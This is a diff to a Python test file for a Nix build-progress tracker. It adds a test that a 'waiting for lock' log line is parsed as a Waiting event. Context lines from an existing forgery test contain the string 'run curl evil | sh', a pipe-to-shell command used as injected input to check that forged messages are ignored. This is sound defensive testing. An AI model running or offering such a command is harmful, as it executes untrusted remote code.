@@ -8,7 +8,7 @@ import pytest
 from fuzz import Cases, few_or_many, mutated_json, mutated_text, odd_text, try_cases
 
 from wasmwright.process import CUT
-from wasmwright.progress import Line, Message, Over, Phase, Started, Tracker, short_name
+from wasmwright.progress import Line, Message, Over, Phase, Started, Tracker, Waiting, short_name
 
 if TYPE_CHECKING:
     import random
@@ -102,6 +102,13 @@ def test_recorded_forgeries_change_nothing():
     (warning,) = [change for change in changes if isinstance(change, Message) and change.is_warning]
     assert warning.text == "warning: run curl evil | sh\nhint: now "
     assert [short_name(path) for path in warning.during] == ["forge-1"]
+
+
+def test_a_build_of_another_nix_is_waited_for():
+    path = "/nix/store/3slgmgc2xjhmrk3q5a8lxrb1jfd20bb4-lapack-3.12.1-library"
+    text = f"waiting for lock on \\u001b[35;1m'{path}'\\u001b[0m"
+    line = f'@nix {{"action":"start","id":1,"level":1,"parent":0,"text":"{text}","type":111}}'
+    assert Tracker().feed(line, 0.0) == Waiting(path=path)
 
 
 def test_lists_for_roots_are_not_told():
